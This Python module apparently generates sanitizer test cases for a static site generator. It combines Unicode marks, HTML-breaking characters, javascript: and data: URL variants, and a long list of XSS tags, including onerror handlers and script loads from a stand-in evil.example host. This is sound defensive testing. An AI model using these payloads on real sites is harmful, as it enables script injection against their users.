"""Attempts to inject markup: each is a text with a special character after a mark, in one field of one type of page, or an
address that is none that a link may have, in one of the places where addresses go.

Generated, and the same each time. An attempt is its files, by their paths; the text that it tries has `x-evil` for an element
and `onx` for an attribute in it, which no template makes.
"""

import itertools
import re

# What combines with the character after it, or with the one before: nothing, accents, prepended marks, joiners, variation
# selectors, enclosing marks, Hangul jamo, regional indicators, tags, bidirectional controls, the byte order mark.
MARKS = ["", "\u0301", "\u20dd", "\u20e3", "\u0600", "\u06dd", "\u070f", "\u08e2", "\U000110bd", "\u200d", "\u200c", "\u034f",
         "\ufe0f", "\U000e0101", "\u1100", "\u1161", "\u11a8", "\uac00", "\U0001f1e6", "\U0001f3fb", "\U000e0041", "\u0903",
         "\u0e33", "\u200e", "\u200f", "\u061c", "\u202e", "\u202a", "\u2066", "\u2069", "\ufeff", "\u00ad"]
# Each special character with what makes of it an element or an attribute, should it ever stand unescaped.
SPECIALS = ["<x-evil onx=1>", "</p></main><x-evil>", "><x-evil>", "\" onx=1 x=\"", "' onx=1 x='", "` onx=1 `", "=x onx=1 ",
            "/><x-evil>", "&lt;x-evil onx&gt;", "&#60;x-evil&#x3e;", "<!--x-->", "<![CDATA[<x-evil>]]>", "<?x onx?>", "\\\"onx=1",
            "</title><x-evil>", "</script><x-evil>", "--><x-evil>", "\0<x-evil>", "\x01\"onx=1 ", "\x0b\"onx=1 ", "\x0c\"onx=1 ", "\x1b\"onx=1 ",
            "\x7f<x-evil>", "\x85\"onx=1 ", "\u2028\"onx=1 ", "\u2029<x-evil>", "\n\"onx=1 ", "\r<x-evil>", "\r\n\"onx=1 ", "\t\"onx=1 ",
            "\uff1cx-evil\uff1e", "\u02ba onx=1", "{{x-evil}}", "[[x-evil|<x-evil>]]", "%%<x-evil>%%", "\u00a0\"onx=1 "]
HARMLESS = " and "


def yaml(text):
    """A scalar in double quotation marks; what may not stand in a file is written as an escape."""
    out = []
    for c in text:
        if c in "\"\\":
            out.append("\\" + c)
        elif ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c in "\u2028\u2029\ufeff":
            out.append(f"\\u{ord(c):04x}")
        else:
            out.append(c)
    return '"' + "".join(out) + '"'


def plain(text):
    """The text in Markdown that makes nothing of it."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


def page(front, body="A text.\n"):
    return f"---\n{front}---\n{body}"


def in_front(folder, front):
    """A field of a file's front matter: `front` with `%s` for the value, `%n` for a number of its own."""
    def files(n, text):
        title = "" if "title:" in front else f"title: Title {n}\n"
        return {f"Content/{folder}/f-{n}.md": page(title + front.replace("%s", yaml(text)).replace("%n", str(n)))}
    return files


def naming(folder, front):
    """The same, where the text names an entity that is there."""
    def files(n, text):
        return {**in_front(folder, front)(n, text), **entity(n, text)}
    return files


def entity(n, title):
    return {f"Content/entities/e-{n}.md": page(f"kind: place\ntitle: {yaml(title)}\n")}


def annotation(front, named=False):
    """A note on an article of its own, with the text in the article, too."""
    def files(n, text):
        named_files = entity(n, text) if named else {}
        keys = front.replace("%s", yaml(text)).replace("%n", str(n))
        quote = "" if "quote:" in front.split("\n")[0] else "quote: seized servers\n"
        return {f"Content/articles/a-{n}.md": page(f"title: Article {n}\ndate: 2020-01-01\n", f"They seized servers {plain(text)} in May.\n"),
                f"Content/annotations/f-{n}.md": page(f"{quote}article: a-{n}\n{keys}"), **named_files}
    return files


def named(folder, front, ending=".md"):
    def files(n, text):
        name = text.replace("/", "∕").replace("\0", "")[:60].strip()
        return {f"Content/{folder}/{name} {n}{ending}": page(front, f"Text {n}.\n") if ending == ".md" else b"x"}
    return files


def media(n, text):
    name = text.replace("/", "∕").replace("\0", "")[:60].strip()
    return {f"Content/media/{name} {n}.png": b"x", f"Content/pages/f-{n}.md": page(f"title: Title {n}\n", f"![[{name} {n}.png]]\n\n![x](<../media/{name} {n}.png>)\n")}


ARTICLE, PERSON = "date: 2020-01-01\n", "kind: person\n"
# What goes to the page as text: the pages are, but for it, those of a harmless text.
FIELDS = {
    "article title": in_front("articles", ARTICLE + "title: %s\n"), "article summary": in_front("articles", ARTICLE + "summary: %s\n"),
    "article alias": in_front("articles", ARTICLE + "aliases: [%s]\n"), "article tag": in_front("articles", ARTICLE + "tags: [%s]\n"),
    "article author": in_front("articles", ARTICLE + "authors: [%s]\n"), "article publisher": in_front("articles", ARTICLE + "publisher: %s\n"),
    "article correction": in_front("articles", ARTICLE + "corrections:\n  - date: 2020-02-02\n    note: %s\n"),
    "article formerly": in_front("articles", ARTICLE + "formerly: [%s]\n"), "article image": in_front("articles", ARTICLE + "image: %s\n"),
    "person title": in_front("entities", PERSON + "title: %s\n"), "person alias": in_front("entities", PERSON + "aliases: [%s]\n"),
    "person summary": in_front("entities", PERSON + "summary: %s\n"), "person role": in_front("entities", PERSON + "roles: [%s, Other]\n"),
    "person tag": in_front("entities", PERSON + "tags: [%s]\n"),
    "relation role": in_front("entities", PERSON + "relations:\n  - type: Membership\n    to: org\n    role: %s\n"),
    "relation quote": in_front("entities", PERSON + "relations:\n  - type: Membership\n    to: org\n    source: src\n    quote: %s\n"),
    "organization title": in_front("entities", "kind: organization\ntitle: %s\n"),
    "organization summary": in_front("entities", "kind: organization\nsummary: %s\n"),
    "place title": in_front("entities", "kind: place\nlatitude: 1\nlongitude: 2\ntitle: %s\n"),
    "event title": in_front("entities", "kind: event\ndate: 2020-01-01\ntitle: %s\n"), "outlet title": in_front("entities", "kind: outlet\ntitle: %s\n"),
    "outlet owner": naming("entities", "kind: outlet\nowner: %s\n"), "event location": naming("entities", "kind: event\nlocation: %s\n"),
    "source title": in_front("sources", "type: report\ntitle: %s\n"), "source summary": in_front("sources", "type: report\nsummary: %s\n"),
    "source author": in_front("sources", "type: report\nauthors: [%s]\n"), "source publisher": in_front("sources", "type: report\npublisher: %s\n"),
    "source capture": in_front("sources", "type: report\ncapture: %s\n"),
    "page title": in_front("pages", "title: %s\n"), "page summary": in_front("pages", "summary: %s\n"), "page tag": in_front("pages", "tags: [%s]\n"),
    "note title": annotation("kind: context\ntitle: %s\n"), "note quote": annotation('quote: %s\nkind: quote\n'),
    "note prefix": annotation("kind: context\nprefix: They\nsuffix: %s\n"), "note speaker": annotation("kind: quote\nspeaker: %s\n", named=True),
    "note original": annotation("kind: quote\nspeaker: per\noriginal: %s\nlanguage: fr\ntranslation: Words\n"),
    "note translation": annotation("kind: quote\nspeaker: per\noriginal: Mots\nlanguage: fr\ntranslation: %s\n"),
    "claim says": annotation("kind: claim\nstatus: reported\nsources:\n  - source: src\n    says: %s\n"),
    "claim quote": annotation("kind: claim\nstatus: reported\nsources:\n  - source: src\n    quote: %s\n"),
    "claim history": annotation("kind: claim\nstatus: reported\nhistory:\n  - date: 2020-01-01\n    status: unverified\n    note: %s\n"),
    "claim reply": annotation("kind: claim\nstatus: reported\naccuses: [per]\nreply:\n  asked: 2020-01-01\n  received: 2020-01-02\n  says: %s\n"),
    "article name": named("articles", ARTICLE), "entity name": named("entities", PERSON), "source name": named("sources", "type: report\n"),
    "page name": named("pages", "summary: x\n"), "note name": named("Some notes", "tags: [x]\n"),
    "relation target": naming("entities", PERSON + "relations:\n  - type: Membership\n    to: %s\n"),
}


def in_body(body):
    def files(n, text):
        return {f"Content/articles/f-{n}.md": page(f"title: Title {n}\n{ARTICLE}", body.replace("%s", text).replace("%n", str(n)) + "\n")}
    return files


def linked(body):
    """The same, where the text is the title of an entity."""
    def files(n, text):
        title = " ".join(text.split())
        return {**in_body(body)(n, title), **entity(n, title)}
    return files


# What goes through Markdown, which may make of it any element that Markdown has.
BODIES = {
    "text": in_body("%s"), "text in a line": in_body("A %s b"), "heading": in_body("## %s"), "link text": in_body("[%s](https://example.org)"),
    "link address": in_body("[x](https://example.org/%s)"), "link in angles": in_body("[x](<https://example.org/%s>)"), "relative link": in_body("[x](../%s)"),
    "link title": in_body('[x](https://example.org "%s")'), "definition": in_body('[x]\n\n[x]: https://example.org/%s "%s"'),
    "image text": in_body("![%s](../media/a.png)"), "image address": in_body("![x](../media/a.png%s)"), "image size": in_body("![[a.png|%s]]"),
    "fence info": in_body("```%s\nx\n```"), "fence language": in_body("~~~a %s\nx\n~~~"), "fenced code": in_body("```\n%s\n```"), "indented code": in_body("    %s"),
    "code span": in_body("a ``%s`` b"), "callout kind": in_body("> [!%s] Title\n> Text"), "callout title": in_body("> [!note] %s\n> Text"),
    "table": in_body("| a | b |\n| - | - |\n| %s | x |"), "wikilink": in_body("[[%s]]"), "wikilink to it": linked("[[%s]] and [[%s|x]]"), "embed of it": linked("![[%s]]"), "wikilink label": in_body("[[per|%s]]"),
    "wikilink heading": in_body("[[per#%s]]"), "wikilink block": in_body("[[per#^%s]]"), "embed": in_body("![[%s]]"), "embed label": in_body("![[per|%s]]"),
    "footnote name": in_body("x[^%s]\n\n[^%s]: y"), "footnote": in_body("x[^1]\n\n[^1]: %s"), "inline footnote": in_body("x^[%s]"), "highlight": in_body("==%s=="),
    "block name": in_body("x ^a%s"), "comment": in_body("%%%s%%"), "autolink": in_body("<https://example.org/%s>"), "bare address": in_body("see https://example.org/%s"),
    "mail": in_body("<a%s@example.org>"), "item": in_body("- %s\n- [ ] %s"), "quotation": in_body("> %s"), "strike": in_body("~~%s~~"), "HTML block": in_body("<div>\n%s\n</div>"),
    "heading id": in_body("## a %s\n\n[x](#%s)"), "media name": media,
}
SETTINGS = ["title", "description", "publisher", "authors", "baseURL", "language", "navigation", "ignore"]

SCHEMES = ["javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "blob:https://example.org/", "view-source:https://example.org/",
           "intent:", "feed:javascript:", "file:///etc/", "filesystem:", "jar:", "about:", "ftp://h/", "ws://h/", "tel:", "sms:", "chrome:", "mhtml:", "livescript:", "mocha:",
           "ms-settings:", "ssh://h/", "//evil.example/", "\\\\evil.example/", "/\\evil.example/", "\\/evil.example/", "///evil.example/", "https:evil", "https:/evil.example", "https:///evil.example",
           "https:\\\\evil.example/", "http:", "httpx://h/", "xhttps://h/", ":", "%6aavascript:", "java%0ascript:", "&#106;avascript:", "javascript&colon;", "&#x6A;avascript&#58;",
           "java&Tab;script:", "java&NewLine;script:", "\u017favascript:", "java\u200dscript:", "java\u00adscript:", "\uff4aavascript:"]
HEADS = ["", " ", "\t", "\x01", "\x1f", "\n", "\r", "\u00a0", "\u200b", "\ufeff", "\u202e", "./", "#", "?", "%20", "%09", "%0a", "&#9;", "&#1;"]




ADDRESSES = {
    "link": in_body("[x](%s)"), "link in angles": in_body("[x](<%s>)"), "definition": in_body("[x]\n\n[x]: %s"), "definition in angles": in_body("[x]\n\n[x]: <%s>"),
    "autolink": in_body("<%s>"), "image": in_body("![x](%s)"), "image in angles": in_body("![x](<%s>)"), "wikilink": in_body("[[%s|x]]"), "embed": in_body("![[%s]]"),
    "bare": in_body("%s"), "website": in_front("entities", "kind: organization\nwebsite: %s\n"), "sameAs": in_front("entities", PERSON + "sameAs: [%s]\n"),
    "source url": in_front("sources", "type: report\nurl: %s\n"), "source archive": in_front("sources", "type: report\nurl: https://example.org/\narchiveURL: %s\n"),
    "image field": in_front("articles", ARTICLE + "image: %s\n"),
}


def texts():
    """`(name, text)`: each special character after each mark."""
    for (m, mark), (s, special) in itertools.product(enumerate(MARKS), enumerate(SPECIALS)):
        yield f"mark {m}, special {s}", mark + special


def addresses():
    for (h, head), (s, scheme) in itertools.product(enumerate(HEADS), enumerate(SCHEMES)):
        yield f"head {h}, scheme {s}", f"{head}{scheme}alert(1)"


# The safe part of HTML: what may stand on a page because an author typed it, each with the attributes that it may have there.
SAFE = {
    name: {"title", "lang", "dir", "class"} for name in
    ("a b i em strong s del ins u mark br hr kbd code pre samp var sub sup small abbr q cite blockquote p div span h1 h2 h3 h4 h5 h6 ul ol li dl dt dd "
     "table caption thead tbody tfoot tr th td figure figcaption img details summary").split()
}
for _name, _more in {"a": {"href"}, "img": {"src", "alt", "width", "height", "loading"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"}, "ol": {"start"},
                     "details": {"open"}}.items():
    SAFE[_name] |= _more

RUNS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " java&#10;script:alert(1)", "&#x6A;avascript&colon;alert(1)", "java&Tab;script:alert(1)", "data:text/html,<x-evil>",
        "//evil.example/", "\\\\evil.example/", "vbscript:x", "https://evil.example/x.png", "blob:x", "%6aavascript:x", "\x01javascript:x", "java\0script:x"]
TAGS = [
    "<script>alert(1)</script>", "<script src=//evil.example/></script>", "<style>*{x:y}</style>", "<style onload=x>", "<iframe src=x></iframe>", "<iframe srcdoc='<x-evil>'>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=x>", "<form action=x><input name=y><button>z</button></form>",
    "<svg onload=x><script>y</script></svg>", "<svg><a xlink:href=javascript:x><text>y</text></a></svg>", "<svg><foreignObject><p onx=1></p></foreignObject></svg>",
    "<math><mi xlink:href=javascript:x>y</mi></math>", "<math><annotation-xml encoding='text/html'><x-evil></annotation-xml></math>", "<svg></p><style><a title='</style><x-evil>'>",
    "<math><mtext><table><mglyph><style><x-evil>", "<object data=x></object>", "<embed src=x>", "<applet code=x>", "<template><x-evil></template>", "<noscript><p title='</noscript><x-evil>'>",
    "<title><x-evil></title>", "<textarea><x-evil></textarea>", "<xmp><x-evil></xmp>", "<plaintext><x-evil>", "<frameset><frame src=x>", "<video src=x poster=y onerror=z>",
    "<audio src=x>", "<source src=x>", "<track src=x>", "<portal src=x>", "<marquee onstart=x>", "<body onload=x>", "<html onclick=x>", "<head><x-evil>", "<isindex prompt=x>",
    "<keygen autofocus onfocus=x>", "<dialog open onx=1>", "<slot name=x>", "<x-evil onx=1>", "<!--><x-evil>-->", "<!--x--!><x-evil>", "<!-- -- ><x-evil> -->", "<![CDATA[<x-evil>]]>",
    "<?php <x-evil> ?>", "<!DOCTYPE x [<!ENTITY y '<x-evil>'>]>", "<!x><x-evil>", "</ x><x-evil>", "</><x-evil>", "<b/onx=1>", "<b onx=1", "<b onx=1//", "<b\0onx=1>", "<b\x0conx=1>",
    "<b title=\"x\"onx=1>", "<b title=x onx=1 title=y>", "<b title='\" onx=1 x=\"'>", "<b title=\"' onx=1 x='\">", "<b title=`x` onx=1>", "<b title=a&quot;onx=1&quot;>", "<b title=&gt;<x-evil>>",
    "<b title='&lt;x-evil&gt;'>", "<b title='</b><x-evil>'>", "<b ='x' onx=1>", "<b \"onx=1>", "<b<x-evil>", "<<b>x-evil>", "<b <x-evil>>", "<b\u2028onx=1>", "<b\u00a0onx=1>", "<\u017fcript>x",
    "<b style='background:url(//evil.example/)'>", "<b id=x class=y name=z>", "<b data-evil=x aria-evil=y role=z>", "<b is=x-evil>", "<b contenteditable autofocus tabindex=1 onfocus=x>",
    "<b popover hidden inert>", "<b itemscope itemid=javascript:x>", "<b lang='x\" onx=1'>", "<b dir='rtl\" onx=1'>", "<b lang=evil dir=evil>", "<p align='x\" onx=1'>",
    "<p align=center style=x>", "<img src=x onerror=alert(1)>", "<img src=x srcset='//evil.example/ 2x'>", "<img src=../media/a.png srcset=x sizes=y usemap=#z>", "<img src=../media/a.png alt='\"><x-evil>'>",
    "<img src=../media/a.png width='1\" onx=1' height=1e9>", "<img src=../media/a.png width=-1 height=9999999999>", "<img lowsrc=x dynsrc=y>", "<img/src=../media/a.png/onerror=x>",
    "<image src=../media/a.png>", "<a href=#x target=_blank ping=y download=z>x</a>", "<a href='../entities/per.md\" onx=1'>x</a>", "<a href=x.md><a href=y.md>z</a></a>",
    "<td background=x>", "<table background=//evil.example/><td colspan='2\" onx=1' rowspan=99999999999>x", "<ol start='1\" onx=1'><li>x", "<ol start=-99999999999><li value=x>y",
    "<details ontoggle=x open><summary onclick=y>z", "<q cite=javascript:x>y</q>", "<del cite=javascript:x datetime=y>z</del>", "<h1 id=main onx=1>x</h1>", "<table><x-evil></table>",
    "<table><tr><x-evil><td>x</table>", "<ul><x-evil></ul>", "<select><option><x-evil></select>", "<b><i></b><x-evil></i>", "<a href=x.md><table><a href=y.md>z</table></a>", "</main></body></html><x-evil>",
    "</div></div></main>x", "</p></article><x-evil>", "<p><table><p><td><p>x</table>", "<figure><figcaption></figure></figcaption><x-evil>", "<pre><script>x</script></pre>", "<code></code onx=1>",
    "<br onx=1/>", "</br onx=1>", "<hr onx=1>", "<summary>x</summary>", "<tr onx=1><td>x", "<caption><table><caption>x", "<dl><dt><h1>x</h1><dd><dd>y", "<li><li><ul><li>",
] + [f"<a href={quote}{address}{quote}>x</a>" for address in RUNS for quote in "'\""] + [f"<img alt=x src={quote}{address}{quote}>" for address in RUNS for quote in "'\""]

# How a tag is wrapped, spelt or broken.
VARIANTS = {
    "as it is": lambda tag: tag, "upper case": str.upper, "twice": lambda tag: tag * 2, "unclosed": lambda tag: tag.rstrip(">"), "in bold": lambda tag: f"<b>{tag}</b>", "after words": lambda tag: f"x{tag}y",
    "in a value": lambda tag: f"<b title=\"{tag}\">", "in a value, escaped": lambda tag: "<b title='" + tag.replace("<", "&lt;").replace("'", "&#39;") + "'>", "in an attribute's name": lambda tag: f"<b {tag}>",
    "as references": lambda tag: tag.replace("<", "&lt;"), "after a NUL": lambda tag: "\0" + tag, "with NULs": lambda tag: tag.replace("<", "<\0"), "with line ends": lambda tag: tag.replace(" ", "\n"),
    "with tabs": lambda tag: tag.replace(" ", "\t"), "with slashes": lambda tag: tag.replace(" ", "/"), "in a comment that ends early": lambda tag: f"<!--x-->{tag}<!--y-->", "with a backslash": lambda tag: "\\" + tag,
}


def in_note(pattern):
    """A note, in which the safe part of HTML is read, or a page of a dossier that asks for it."""
    def files(n, text):
        body = pattern.replace("%s", text) + "\n"
        return {f"Content/Notes/f-{n}.md": body} if n % 2 else {f"Content/pages/f-{n}.md": page(f"title: Title {n}\n", body)}
    return files


HTML = {
    "a block": in_note("%s"), "a line": in_note("words %s words"), "a heading": in_note("## a %s b"), "a cell": in_note("| a | b |\n| - | - |\n| %s | x |"), "a quotation": in_note("> %s"),
    "an item": in_note("- %s\n- x"), "bold words": in_note("**a %s b**"), "a link": in_note("[a %s b](https://example.org)"), "words for a picture": in_note("![a %s b](../media/a.png)"),
    "a callout's title": in_note("> [!note] a %s\n> x"), "a division": in_note("<div>\n%s\n</div>\n\nx"), "details": in_note("<details>\n<summary>%s</summary>\n\n%s\n\n</details>"),
    "a table of HTML": in_note("<table><tr><td>%s</td></tr></table>"), "a list of HTML": in_note("<ul><li>%s</ul>\n\n%s"), "a block and what follows": in_note("%s\n\nx *y*\n\n%s"),
    "code": in_note("<code>`%s`</code> <pre>%s</pre>"), "a footnote": in_note("x[^1]\n\n[^1]: %s"), "a highlight": in_note("==%s=="), "a wikilink": in_note("[[per|%s]]"), "a formula": in_note("$%s$ x $$%s$$"),
}


def html():
    for (t, tag), (variant, change) in itertools.product(enumerate(TAGS), VARIANTS.items()):
        yield f"tag {t} {variant}", change(tag)


def settings_file(key, text):
    value = f"[{yaml(text)}]" if key in ("authors", "navigation", "ignore") else yaml(text)
    title = "" if key == "title" else "title: Attempts\n"
    return f"{title}{key}: {value}\n"
